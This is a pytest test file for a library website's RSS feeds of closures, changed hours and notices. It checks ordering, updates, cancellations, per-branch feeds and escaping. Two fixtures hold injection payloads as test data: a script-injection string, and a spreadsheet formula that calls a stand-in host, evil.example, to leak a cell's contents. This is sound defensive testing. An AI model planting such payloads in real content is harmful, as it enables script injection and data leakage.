from datetime import datetime
from pathlib import Path

import feedparser
import pytest
from lxml import etree

from librarysite.feeds.status import status_feeds
from librarysite.model import ZONE, Library
from librarysite.moment import Now
from librarysite.reading.load import load
from tests.support.opendatacases import NOW, service

ATOM = "{http://www.w3.org/2005/Atom}"
ADDRESS = "feeds/status.xml"
HOSTILE = '</title><script>alert("1")</script> & &amp; ]]> <!-- “quoted” 📚 مكتبة'


@pytest.fixture
def library(tmp_path: Path) -> Library:
    """Return the service of the cases."""
    return service(tmp_path)


def channel(library: Library, now: Now = NOW, address: str = ADDRESS) -> etree._Element:
    """Return a feed's channel as a plain XML parser sees it."""
    found = etree.fromstring(status_feeds(library, now)[address]).find("channel")
    assert found is not None
    return found


def told(library: Library, now: Now = NOW) -> list[tuple[str | None, ...]]:
    """Return guid, title and day of each item, in the feed's order."""
    items = channel(library, now).findall("item")
    return [tuple(item.findtext(name) for name in ("guid", "title", "pubDate")) for item in items]


def test_items_newest_first(library: Library) -> None:
    """What is published and in force or to come, the newest first; what has no date within six weeks, and last.

    The fire drill is published tomorrow, and “Over” has ended. The lift's notice was updated today.
    """
    assert told(library) == [
        (
            "notice.lift-2026.update.20261123@libraries.example",
            "Update: No lift",
            "Mon, 23 Nov 2026 00:00:00 +0000",
        ),
        (
            "closure.boiler-2026@libraries.example",
            "North Library: closed from 8:30am to 10am on Monday 23 November (Boiler)",
            "Sun, 22 Nov 2026 00:00:00 +0000",
        ),
        (
            "hours.north.20261229@libraries.example",
            "North Library: open 10am to midday and 1pm to 3pm on Tuesday 29 December (Short day)",
            "Sat, 21 Nov 2026 00:00:00 +0000",
        ),
        (
            "closure.christmas-2026@libraries.example",
            "All libraries: closed from 1pm on Thursday 24 December to Sunday 27 December (Christmas)",
            "Fri, 20 Nov 2026 00:00:00 +0000",
        ),
        (
            "closure.training-2027@libraries.example",
            "North Library: closed on Wednesday 10 February 2027 (Training)",
            "Sun, 01 Nov 2026 00:00:00 +0000",
        ),
        ("hours.open-2026@libraries.example", "North Library: open as usual on Monday 28 December", None),
        (
            "closure.flood-2027@libraries.example",
            '=HYPERLINK("https://evil.example/?"&A1,"South"): closed from Thursday 31 December until further '
            "notice (Flood)",
            None,
        ),
    ]


def items_of(folder: Path, status: str) -> dict[str, tuple[str, str]]:
    """Return title and description of each item of a site with a status of its own, by the first part of its guid."""
    items = channel(service(folder, status=status)).findall("item")
    return {
        (item.findtext("guid") or "").partition("@")[0]: (
            item.findtext("title", ""),
            item.findtext("description", ""),
        )
        for item in items
    }


def test_changed_hours_say_what_holds_on_bank_holidays(tmp_path: Path) -> None:
    """Changed hours of four weeks do not claim to hold on the bank holidays among them."""
    lines = "branches: [north]\n    from: 2026-12-14\n    to: 2027-01-02\n    hours: 10:00 to 16:00\n    reason: Winter"
    found = items_of(tmp_path, f"changed_hours:\n  - id: winter\n    {lines}\n")
    assert found["hours.winter"][1] == (
        "<p>Closed on Friday 25 December, Saturday 26 December, Monday 28 December and Friday 1 January 2027.</p>"
    )


@pytest.mark.parametrize(
    ("day", "told"),
    [
        (
            "2026-12-26",
            ["North Library: open as usual on Saturday 26 December"],
        ),  # the only one open on Saturdays
        ("2026-12-27", []),  # a Sunday
    ],
)
def test_as_usual_names_the_libraries_that_open(tmp_path: Path, day: str, told: list[str]) -> None:
    """“Open as usual” is said of no library that is closed as usual."""
    lines = f"branches: all\n    on: {day}\n    hours: as usual"
    found = items_of(tmp_path, f"changed_hours:\n  - id: as-usual\n    {lines}\n")
    assert [title for title, _ in found.values()] == told


def test_titles_stay_as_days_pass(library: Library) -> None:
    """An item's words are the same before and after the new year, so that readers do not show it anew."""
    flood = {told(library, NOW)[-1], told(library, Now(datetime(2027, 1, 4, 9, tzinfo=ZONE)))[-1]}
    assert len(flood) == 1


def test_item_goes_when_it_is_over_and_comes_when_it_is_published(library: Library) -> None:
    """The boiler's closure ends at 10am; the fire drill is published on the 24th."""
    later = [guid for guid, _, _ in told(library, Now(datetime(2026, 11, 24, tzinfo=ZONE)))]
    assert "closure.boiler-2026@libraries.example" not in later
    assert later[0] == "closure.secret-2026@libraries.example"
    assert "closure.boiler-2026@libraries.example" in [
        g for g, *_ in told(library, Now(datetime(2026, 11, 23, 9, 59, tzinfo=ZONE)))
    ]
    assert "closure.boiler-2026@libraries.example" not in [
        g for g, *_ in told(library, Now(datetime(2026, 11, 23, 10, tzinfo=ZONE)))
    ]


def test_item_comes_on_the_day_that_it_is_published(tmp_path: Path) -> None:
    """A closure of 1 March is told of from the day it is published on; without one it is told of at once."""
    closure = "closures:\n  - id: stock\n    branches: north\n    on: 2027-03-01\n    reason: Stock\n"
    dated = service(tmp_path / "dated", status=f"{closure}    published: 2026-11-27\n")
    moments = [Now(datetime(2026, 11, day, hour, 59, tzinfo=ZONE)) for day, hour in ((26, 23), (27, 0))]
    assert [len(told(dated, now)) for now in moments] == [0, 1]
    assert [len(told(service(tmp_path / "plain", status=closure), now)) for now in moments[:1]] == [1]


def test_what_an_item_says(library: Library) -> None:
    """The description says what can still be used, when somebody looks again, and for whom a notice is."""
    items = {item.findtext("guid"): item for item in channel(library).findall("item")}
    assert {guid: items[f"{guid}@libraries.example"].findtext("description") for guid in (
        "closure.boiler-2026", "closure.flood-2027", "notice.lift-2026.update.20261123"
    )} == {
        "closure.boiler-2026": "<p>Still open: The book drop.</p>",
        "closure.flood-2027": "<p>We will look at this again by Friday 15 January 2027.</p>",
        "notice.lift-2026.update.20261123": "<p>The lift is broken.</p>\n"
        "<p>North Library, from Monday 2 November until further notice.</p>\n"
        "<p>This is a sample entry of a demonstration.</p>",
    }  # fmt: skip
    page = "https://libraries.example/opening-times/"
    assert {item.findtext("link") for item in items.values()} >= {
        f"{page}#closure-boiler-2026",
        f"{page}#notice-lift-2026",
        f"{page}#hours-north.20261229",
    }
    assert all((item.findtext("link") or "").startswith(f"{page}#") for item in items.values())
    assert {guid.get("isPermaLink") for guid in channel(library).iter("guid")} == {"false"}


def test_channel(library: Library) -> None:
    """The channel links to the opening times and to itself; its date is its newest entry's, today at the latest."""
    found = channel(library)
    assert found.findtext("title") == "Testshire Libraries: closures, changed hours and notices"
    assert found.findtext("link") == "https://libraries.example/opening-times/"
    (own,) = [link.get("href") for link in found.findall(f"{ATOM}link") if link.get("rel") == "self"]
    assert own == "https://libraries.example/feeds/status.xml"
    assert found.findtext("lastBuildDate") == "Mon, 23 Nov 2026 00:00:00 +0000"
    assert found.findtext("language") == "en-GB"


def test_what_was_called_off_says_so(tmp_path: Path) -> None:
    """A closure that does not happen after all keeps its item, which says so and why, and so does a notice."""
    text = (
        "closures:\n  - id: boiler\n    branches: north\n    on: 2026-11-25\n    reason: Boiler\n"
        "    published: 2026-11-20\n    cancelled: The old one works again\n"
        "notices:\n  - id: lift\n    level: disruption\n    on: 2026-11-26\n    title: No lift\n    cancelled: Mended\n"
    )
    items = channel(service(tmp_path, status=text)).findall("item")
    assert [
        [item.findtext(name) for name in ("guid", "title", "description", "pubDate")] for item in items
    ] == [
        [
            "closure.boiler@libraries.example",
            "Cancelled: North Library: closed on Wednesday 25 November (Boiler)",
            "<p>Cancelled: The old one works again.</p>",
            "Fri, 20 Nov 2026 00:00:00 +0000",
        ],
        [
            "notice.lift@libraries.example",
            "No longer the case: No lift",
            "<p>Mended.</p>\n<p>All libraries, on Thursday 26 November.</p>",
            None,
        ],
    ]


CHANGED = """\
closures:
  - id: shut
    branches: north
    from: 2026-11-02
    {ends}
    reason: Flood
    published: 2026-11-01
    {updated}
"""


@pytest.mark.parametrize(
    ("ends", "updated", "items"),
    [
        ("to: 2026-11-27", "", ["closure.shut: {} to Friday 27 November, 1 Nov"]),
        ("to: 2026-12-04", "updated: 2026-11-22", [".update.20261122: Update: {} to Friday 4 December, 22 Nov"]),
        ("to: 2026-12-04", "updated: 2026-11-24", ["closure.shut: {} to Friday 4 December, 1 Nov"]),
        ("to: 2026-12-04", "updated: 2026-11-01", ["closure.shut: {} to Friday 4 December, 1 Nov"]),
        ("to: 2026-11-22", "updated: 2026-11-23", [".update.20261123: Update: {} to Sunday 22 November, 23 Nov"]),
        ("to: 2026-11-20", "updated: 2026-11-10", [".update.20261110: Update: {} to Friday 20 November, 10 Nov"]),
        ("to: 2026-11-20", "updated: 2026-11-09", []),
        ("to: 2026-11-20", "", []),
        (
            "to: 2026-11-27",
            "updated: 2026-11-20\n    cancelled: Dry",
            [".update.20261120: Cancelled: {} to Friday 27 November, 20 Nov"],
        ),
        (
            "until: further notice\n    review: 2026-11-30",
            "cancelled: Dry",
            ["closure.shut: Cancelled: {} until further notice, 1 Nov"],
        ),
        ("until: further notice\n    review: 2026-11-20", "cancelled: Dry", []),
    ],
)  # fmt: skip
def test_material_change_is_a_new_item(tmp_path: Path, ends: str, updated: str, items: list[str]) -> None:
    """On the day of “updated” a new item takes the old one's place, for two weeks at least, though it has ended."""
    library = service(tmp_path, status=CHANGED.format(ends=ends, updated=updated))
    news = [[text or "" for text in item] for item in told(library)]
    found = [
        f"{g.removesuffix('@libraries.example')}: {t.replace(' (Flood)', '')}, {int(d[5:7])} Nov"
        for g, t, d in news
    ]
    shut = "North Library: closed from Monday 2 November"
    expected = [item.format(shut) for item in items]
    assert found == [f"closure.shut{item}" if item.startswith(".") else item for item in expected]


def test_changed_hours_and_notices_are_told_again(tmp_path: Path) -> None:
    """A material change of changed hours or a notice is a new item as well, also without “published”."""
    text = (
        "changed_hours:\n  - branches: north\n    on: 2026-12-31\n    hours: 09:00 to 12:00\n    reason: Party\n"
        "    published: 2026-11-02\n    updated: 2026-11-20\n"
        "notices:\n  - id: lift\n    level: disruption\n    from: 2026-11-26\n    to: 2026-11-27\n    title: No lift\n"
        "    updated: 2026-11-21\n    cancelled: Mended\n"
    )
    assert told(service(tmp_path, status=text)) == [
        (
            "notice.lift.update.20261121@libraries.example",
            "No longer the case: No lift",
            "Sat, 21 Nov 2026 00:00:00 +0000",
        ),
        (
            "hours.north.20261231.update.20261120@libraries.example",
            "Update: North Library: open 9am to midday on Thursday 31 December (Party)",
            "Fri, 20 Nov 2026 00:00:00 +0000",
        ),
    ]


def test_feed_of_each_library(library: Library) -> None:
    """Each library that ever was in service has a feed of what concerns it, in the same words."""
    feeds = status_feeds(library, NOW)
    found = {
        address: [item.findtext("guid") for item in channel(library, NOW, address).findall("item")]
        for address in sorted(feeds)
        if address != ADDRESS
    }
    assert found == {
        "feeds/status/at/formula.xml": [
            "closure.christmas-2026@libraries.example",
            "closure.flood-2027@libraries.example",
        ],
        "feeds/status/at/north.xml": [
            "notice.lift-2026.update.20261123@libraries.example",
            "closure.boiler-2026@libraries.example",
            "hours.north.20261229@libraries.example",
            "closure.christmas-2026@libraries.example",
            "closure.training-2027@libraries.example",
            "hours.open-2026@libraries.example",
        ],
        "feeds/status/at/unlisted.xml": ["closure.christmas-2026@libraries.example"],
    }
    everything = [etree.tostring(item) for item in channel(library).findall("item")]
    north = channel(library, NOW, "feeds/status/at/north.xml")
    assert {etree.tostring(item).strip() for item in north.findall("item")} <= {
        item.strip() for item in everything
    }
    assert [north.findtext(name) for name in ("title", "link", "description")] == [
        "North Library: closures, changed hours and notices",
        "https://libraries.example/libraries/north/",
        "What is out of the ordinary at North Library, now and to come",
    ]


def test_no_feed_vanishes(library: Library) -> None:
    """A library that closes for good, as one does in April 2027, keeps the address of its feed."""
    later = status_feeds(library, Now(datetime(2027, 6, 1, tzinfo=ZONE)))
    assert set(later) == set(status_feeds(library, NOW))


def test_feed_without_items(tmp_path: Path) -> None:
    """A feed without items is a valid feed whose date is the day on which the site began."""
    library = service(tmp_path, status="closures: []\n")
    parsed = feedparser.parse(status_feeds(library, NOW)[ADDRESS])
    assert (parsed.bozo, parsed.version, parsed.entries) == (False, "rss20", [])
    assert channel(library).findtext("lastBuildDate") == "Mon, 05 Jan 2026 00:00:00 +0000"


def test_feed_reader_reads_it(sample: Library, now: Now) -> None:
    """A feed reader sees the sample service's six items."""
    parsed = feedparser.parse(status_feeds(sample, now)[ADDRESS])
    assert (parsed.bozo, parsed.version) == (False, "rss20")
    assert sorted(entry.id for entry in parsed.entries) == [
        "closure.christmas-2026@luton-libraries.example",
        "closure.stopsley-staff-training-2027@luton-libraries.example",
        "hours.central-new-years-eve-2026@luton-libraries.example",
        "hours.leagrave-heating-2027@luton-libraries.example",
        "notice.central-computers-2026@luton-libraries.example",
        "notice.check-hours-2026@luton-libraries.example",
    ]


def test_hostile_text_stays_text(tmp_path: Path) -> None:
    """Markup, ampersands, emoji and right-to-left text in a reason or a notice stay text."""
    text = (
        f"closures:\n  - id: one\n    branches: all\n    on: 2026-11-25\n    reason: '{HOSTILE}'\n"
        f"notices:\n  - id: two\n    level: emergency\n    on: 2026-11-26\n    title: '{HOSTILE}'\n"
    )
    library = service(tmp_path, status=text)
    closure, notice = channel(library).findall("item")
    assert closure.findtext("title") == f"All libraries: closed on Wednesday 25 November ({HOSTILE})"
    assert notice.findtext("title") == HOSTILE
    assert b"<script" not in status_feeds(library, NOW)[ADDRESS]


def test_same_data_gives_the_same_bytes(sample: Library, root: Path, now: Now) -> None:
    """The same data gives the same bytes, also when it is read anew."""
    again = load(root).library
    assert again is not None
    assert status_feeds(sample, now) == status_feeds(again, now)


def test_closure_that_leaves_self_service(tmp_path: Path) -> None:
    """Where a closure sends the staff home and the doors open as usual, readers are told both."""
    lines = "    branches: [north]\n    on: 2026-12-08\n    reason: Staff day\n    self_service: as usual\n"
    found = items_of(tmp_path, f"closures:\n  - id: staff\n{lines}")
    title = "North Library: no staff, self-service as usual on Tuesday 8 December (Staff day)"
    assert [title for title, _ in found.values()] == [title]
